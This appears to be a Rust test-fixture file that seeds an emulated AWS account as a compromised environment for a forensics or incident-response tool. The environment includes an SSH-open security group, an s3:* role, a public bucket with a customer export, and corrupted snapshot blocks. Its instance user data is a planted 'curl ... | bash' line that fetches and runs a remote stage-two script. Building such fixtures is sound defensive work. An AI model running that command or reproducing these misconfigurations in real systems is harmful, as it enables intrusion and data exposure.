//! Seeds a realistic compromised environment through the AWS SDK.

use anyhow::{Context, Result};
use aws_sdk_ec2::types::{
    BlockDeviceMapping, EbsBlockDevice, Filter, IamInstanceProfileSpecification, InstanceNetworkInterfaceSpecification,
    IpPermission, IpRange, ResourceType, Tag, TagSpecification,
};
use cordon_aws::Aws;

/// What was seeded: a web instance with two EBS volumes, two network interfaces and an
/// Elastic IP, an instance profile, a security group open to the world on 22, and an
/// IAM user with an active access key.
#[derive(Debug, Clone, serde::Serialize)]
pub struct Seeded {
    pub vpc_id: String,
    pub subnet_id: String,
    pub web_group_id: String,
    pub instance_id: String,
    pub network_interface_ids: Vec<String>,
    pub volume_ids: Vec<String>,
    pub elastic_ip_allocation_id: String,
    pub role_name: String,
    pub instance_profile_name: String,
    pub user_name: String,
    pub access_key_id: String,
}

/// The seeded instance's user data: a persistence hook an examiner should find.
pub const USER_DATA: &str = "#!/bin/bash\ncurl -s http://203.0.113.66/stage2.sh | bash\n";

fn tags(kind: ResourceType, name: &str) -> TagSpecification {
    TagSpecification::builder()
        .resource_type(kind)
        .tags(Tag::builder().key("Name").value(name).build())
        .tags(Tag::builder().key("env").value("prod").build())
        .build()
}

/// Seeds everything under names that end in `label`, so runs do not collide.
pub async fn compromised_web_host(aws: &Aws, label: &str) -> Result<Seeded> {
    let ec2 = &aws.ec2;
    let vpc = ec2
        .create_vpc()
        .cidr_block("10.20.0.0/16")
        .tag_specifications(tags(ResourceType::Vpc, &format!("prod-{label}")))
        .send()
        .await
        .context("CreateVpc")?;
    let vpc_id = vpc.vpc().and_then(|v| v.vpc_id()).context("no vpc id")?.to_string();
    let subnet = ec2.create_subnet().vpc_id(&vpc_id).cidr_block("10.20.1.0/24").send().await.context("CreateSubnet")?;
    let subnet_id = subnet.subnet().and_then(|s| s.subnet_id()).context("no subnet id")?.to_string();

    let sg = ec2
        .create_security_group()
        .group_name(format!("web-{label}"))
        .description("web servers")
        .vpc_id(&vpc_id)
        .send()
        .await
        .context("CreateSecurityGroup")?;
    let web_group_id = sg.group_id().context("no group id")?.to_string();
    ec2.authorize_security_group_ingress()
        .group_id(&web_group_id)
        .ip_permissions(
            IpPermission::builder()
                .ip_protocol("tcp")
                .from_port(22)
                .to_port(22)
                .ip_ranges(IpRange::builder().cidr_ip("0.0.0.0/0").description("ssh from anywhere").build())
                .build(),
        )
        .ip_permissions(
            IpPermission::builder()
                .ip_protocol("tcp")
                .from_port(443)
                .to_port(443)
                .ip_ranges(IpRange::builder().cidr_ip("0.0.0.0/0").build())
                .build(),
        )
        .send()
        .await
        .context("AuthorizeSecurityGroupIngress")?;

    let role_name = format!("web-role-{label}");
    let instance_profile_name = format!("web-profile-{label}");
    aws.iam
        .create_role()
        .role_name(&role_name)
        .assume_role_policy_document(
            r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}"#,
        )
        .send()
        .await
        .context("CreateRole")?;
    let profile = aws
        .iam
        .create_instance_profile()
        .instance_profile_name(&instance_profile_name)
        .send()
        .await
        .context("CreateInstanceProfile")?;
    let profile_arn = profile.instance_profile().map(|p| p.arn().to_string()).context("no profile arn")?;
    aws.iam
        .add_role_to_instance_profile()
        .instance_profile_name(&instance_profile_name)
        .role_name(&role_name)
        .send()
        .await
        .context("AddRoleToInstanceProfile")?;
    // Over-broad, as such roles often are: part of what the instance's credentials could do.
    aws.iam
        .put_role_policy()
        .role_name(&role_name)
        .policy_name("web-data")
        .policy_document(r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:*","Resource":"*"}]}"#)
        .send()
        .await
        .context("PutRolePolicy")?;

    let image = ec2
        .describe_images()
        .owners("amazon")
        .filters(Filter::builder().name("root-device-type").values("ebs").build())
        .send()
        .await
        .context("DescribeImages")?;
    let image_id =
        image.images().iter().find_map(|i| i.image_id()).context("the emulator lists no EBS-backed image")?.to_string();

    let template = ec2
        .create_launch_template()
        .launch_template_name(format!("web-lt-{label}"))
        .launch_template_data(
            aws_sdk_ec2::types::RequestLaunchTemplateData::builder()
                .image_id(&image_id)
                .instance_type(aws_sdk_ec2::types::InstanceType::T3Medium)
                .build(),
        )
        .send()
        .await
        .context("CreateLaunchTemplate")?;
    let template_id = template.launch_template().and_then(|t| t.launch_template_id()).context("no template id")?;
    let run = ec2
        .run_instances()
        .launch_template(
            aws_sdk_ec2::types::LaunchTemplateSpecification::builder()
                .launch_template_id(template_id)
                .version("1")
                .build(),
        )
        .image_id(&image_id)
        .instance_type(aws_sdk_ec2::types::InstanceType::T3Medium)
        .min_count(1)
        .max_count(1)
        .network_interfaces(
            InstanceNetworkInterfaceSpecification::builder()
                .device_index(0)
                .subnet_id(&subnet_id)
                .groups(&web_group_id)
                .build(),
        )
        .block_device_mappings(
            BlockDeviceMapping::builder()
                .device_name("/dev/xvda")
                .ebs(EbsBlockDevice::builder().volume_size(8).delete_on_termination(true).build())
                .build(),
        )
        .block_device_mappings(
            BlockDeviceMapping::builder()
                .device_name("/dev/sdf")
                .ebs(EbsBlockDevice::builder().volume_size(20).delete_on_termination(true).build())
                .build(),
        )
        .iam_instance_profile(IamInstanceProfileSpecification::builder().arn(&profile_arn).build())
        // What the attacker left to run at boot: part of the evidence.
        .user_data(base64::Engine::encode(&base64::engine::general_purpose::STANDARD, USER_DATA))
        .tag_specifications(tags(ResourceType::Instance, &format!("web-{label}")))
        .send()
        .await
        .context("RunInstances")?;
    let instance_id = run.instances().first().and_then(|i| i.instance_id()).context("no instance id")?.to_string();

    let eni = ec2
        .create_network_interface()
        .subnet_id(&subnet_id)
        .groups(&web_group_id)
        .description("web backend interface")
        .send()
        .await
        .context("CreateNetworkInterface")?;
    let eni_id = eni.network_interface().and_then(|n| n.network_interface_id()).context("no eni id")?.to_string();
    ec2.attach_network_interface()
        .network_interface_id(&eni_id)
        .instance_id(&instance_id)
        .device_index(1)
        .send()
        .await
        .context("AttachNetworkInterface")?;

    let desc = ec2.describe_instances().instance_ids(&instance_id).send().await.context("DescribeInstances")?;
    let inst = desc.reservations().iter().flat_map(|r| r.instances()).next().context("seeded instance not found")?;
    let network_interface_ids =
        inst.network_interfaces().iter().filter_map(|n| n.network_interface_id()).map(str::to_string).collect();
    let volume_ids = inst
        .block_device_mappings()
        .iter()
        .filter_map(|b| b.ebs().and_then(|e| e.volume_id()))
        .map(str::to_string)
        .collect();

    // The public address the attacker came in through.
    let eip =
        ec2.allocate_address().domain(aws_sdk_ec2::types::DomainType::Vpc).send().await.context("AllocateAddress")?;
    let elastic_ip_allocation_id = eip.allocation_id().context("no allocation id")?.to_string();
    ec2.associate_address()
        .allocation_id(&elastic_ip_allocation_id)
        .instance_id(&instance_id)
        .send()
        .await
        .context("AssociateAddress")?;

    let user_name = format!("deploy-{label}");
    aws.iam.create_user().user_name(&user_name).send().await.context("CreateUser")?;
    let key = aws.iam.create_access_key().user_name(&user_name).send().await.context("CreateAccessKey")?;
    let access_key_id = key.access_key().map(|k| k.access_key_id().to_string()).context("no access key")?;

    Ok(Seeded {
        vpc_id,
        subnet_id,
        web_group_id,
        instance_id,
        network_interface_ids,
        volume_ids,
        elastic_ip_allocation_id,
        role_name,
        instance_profile_name,
        user_name,
        access_key_id,
    })
}

/// An S3 bucket exposed to the world: a policy letting anyone read every object, a
/// public-read ACL grant, no public access block, versioning never enabled.
#[derive(Debug, Clone, serde::Serialize)]
pub struct ExposedBucket {
    pub bucket: String,
    pub policy: String,
}

/// Seeds `exposed-<label>` (lower-case, as bucket names must be).
pub async fn exposed_bucket(aws: &Aws, label: &str) -> Result<ExposedBucket> {
    let bucket = format!("exposed-{}", label.to_lowercase());
    aws.s3
        .create_bucket()
        .bucket(&bucket)
        .acl(aws_sdk_s3::types::BucketCannedAcl::PublicRead)
        .send()
        .await
        .context("CreateBucket")?;
    aws.s3
        .put_object()
        .bucket(&bucket)
        .key("exports/customers.csv")
        .body(aws_sdk_s3::primitives::ByteStream::from_static(b"id,email\n1,a@example.com\n"))
        .send()
        .await
        .context("PutObject")?;
    let policy = serde_json::json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Sid": "PublicRead",
            "Effect": "Allow",
            "Principal": "*",
            "Action": "s3:GetObject",
            "Resource": format!("arn:aws:s3:::{bucket}/*"),
        }]
    })
    .to_string();
    aws.s3.put_bucket_policy().bucket(&bucket).policy(&policy).send().await.context("PutBucketPolicy")?;
    Ok(ExposedBucket { bucket, policy })
}

/// A fleet behind load balancers: an Auto Scaling group of two instances (tagged
/// `fleet=<label>`), registered with a target group and a classic load balancer.
#[derive(Debug, Clone, serde::Serialize)]
pub struct Fleet {
    pub asg_name: String,
    /// `fleet=<label>`, as `--set tag=` takes it.
    pub tag: String,
    pub instance_ids: Vec<String>,
    pub target_group_arn: String,
    pub classic_lb: String,
}

/// Seeds a fleet in the web host's subnet.
pub async fn fleet(aws: &Aws, label: &str, web: &Seeded) -> Result<Fleet> {
    use aws_sdk_autoscaling::types::{LaunchTemplateSpecification, Tag as AsgTag};
    let short: String = label.chars().filter(|c| c.is_ascii_alphanumeric()).collect::<String>().to_lowercase();
    let short = &short[short.len().saturating_sub(20)..];
    let name = format!("fleet-{short}");
    let image = aws.ec2.describe_images().owners("amazon").send().await.context("DescribeImages")?;
    let image_id = image.images().iter().find_map(|i| i.image_id()).context("no image")?.to_string();
    aws.ec2
        .create_launch_template()
        .launch_template_name(&name)
        .launch_template_data(
            aws_sdk_ec2::types::RequestLaunchTemplateData::builder()
                .image_id(&image_id)
                .instance_type(aws_sdk_ec2::types::InstanceType::T3Micro)
                .security_group_ids(&web.web_group_id)
                .build(),
        )
        .send()
        .await
        .context("CreateLaunchTemplate")?;
    aws.autoscaling
        .create_auto_scaling_group()
        .auto_scaling_group_name(&name)
        .launch_template(LaunchTemplateSpecification::builder().launch_template_name(&name).version("$Latest").build())
        .min_size(0)
        .max_size(4)
        .desired_capacity(2)
        .vpc_zone_identifier(&web.subnet_id)
        .tags(AsgTag::builder().key("fleet").value(label).propagate_at_launch(true).build())
        .send()
        .await
        .context("CreateAutoScalingGroup")?;
    let groups = aws
        .autoscaling
        .describe_auto_scaling_groups()
        .auto_scaling_group_names(&name)
        .send()
        .await
        .context("DescribeAutoScalingGroups")?;
    let mut instance_ids: Vec<String> = groups
        .auto_scaling_groups()
        .first()
        .map(|g| g.instances().iter().filter_map(|i| i.instance_id()).map(str::to_string).collect())
        .unwrap_or_default();
    instance_ids.sort();
    if instance_ids.len() != 2 {
        anyhow::bail!("the emulator launched {} instances for the fleet, not 2", instance_ids.len());
    }
    let tg = aws
        .elbv2
        .create_target_group()
        .name(&name)
        .protocol(aws_sdk_elasticloadbalancingv2::types::ProtocolEnum::Http)
        .port(80)
        .vpc_id(&web.vpc_id)
        .target_type(aws_sdk_elasticloadbalancingv2::types::TargetTypeEnum::Instance)
        .send()
        .await
        .context("CreateTargetGroup")?;
    let target_group_arn =
        tg.target_groups().first().and_then(|t| t.target_group_arn()).context("no target group arn")?.to_string();
    let mut register = aws.elbv2.register_targets().target_group_arn(&target_group_arn);
    for id in &instance_ids {
        register = register
            .targets(aws_sdk_elasticloadbalancingv2::types::TargetDescription::builder().id(id).port(8080).build());
    }
    register.send().await.context("RegisterTargets")?;
    aws.elb
        .create_load_balancer()
        .load_balancer_name(&name)
        .listeners(
            aws_sdk_elasticloadbalancing::types::Listener::builder()
                .protocol("HTTP")
                .load_balancer_port(80)
                .instance_port(8080)
                .build()
                .context("classic listener")?,
        )
        .subnets(&web.subnet_id)
        .send()
        .await
        .context("CreateLoadBalancer (classic)")?;
    let mut reg = aws.elb.register_instances_with_load_balancer().load_balancer_name(&name);
    for id in &instance_ids {
        reg = reg.instances(aws_sdk_elasticloadbalancing::types::Instance::builder().instance_id(id).build());
    }
    reg.send().await.context("RegisterInstancesWithLoadBalancer")?;
    Ok(Fleet {
        asg_name: name.clone(),
        tag: format!("fleet={label}"),
        instance_ids,
        target_group_arn,
        classic_lb: name,
    })
}

/// A snapshot written block by block through the EBS direct APIs (`StartSnapshot`,
/// `PutSnapshotBlock`, `CompleteSnapshot`), as a disk image's source: `blocks` maps a
/// block index to its bytes; the blocks in `lie_about` are sent with the checksum of
/// other bytes (a corrupted block, as a reader sees it). The emulator's volumes have
/// 512-byte blocks.
pub async fn ebs_snapshot(
    aws: &Aws,
    volume_gib: i64,
    blocks: &std::collections::BTreeMap<i32, Vec<u8>>,
    lie_about: &[i32],
) -> Result<String> {
    use base64::Engine as _;
    use futures::StreamExt as _;
    use sha2::Digest as _;
    let s = aws.ebs.start_snapshot().volume_size(volume_gib).description("cordon test disk").send().await?;
    let id = s.snapshot_id().context("StartSnapshot gave no id")?.to_string();
    let puts = futures::stream::iter(blocks.iter().map(|(i, data)| {
        let sum = if lie_about.contains(i) { sha2::Sha256::digest(b"other bytes") } else { sha2::Sha256::digest(data) };
        let checksum = base64::engine::general_purpose::STANDARD.encode(sum);
        aws.ebs
            .put_snapshot_block()
            .snapshot_id(&id)
            .block_index(*i)
            .block_data(aws_sdk_ebs::primitives::ByteStream::from(data.clone()))
            .data_length(i32::try_from(data.len()).unwrap_or(i32::MAX))
            .checksum(checksum)
            .checksum_algorithm(aws_sdk_ebs::types::ChecksumAlgorithm::ChecksumAlgorithmSha256)
            .send()
    }))
    .buffer_unordered(16)
    .collect::<Vec<_>>()
    .await;
    for p in puts {
        p.with_context(|| format!("PutSnapshotBlock on {id}"))?;
    }
    let count = i32::try_from(blocks.len()).unwrap_or(i32::MAX);
    aws.ebs.complete_snapshot().snapshot_id(&id).changed_blocks_count(count).send().await?;
    Ok(id)
}
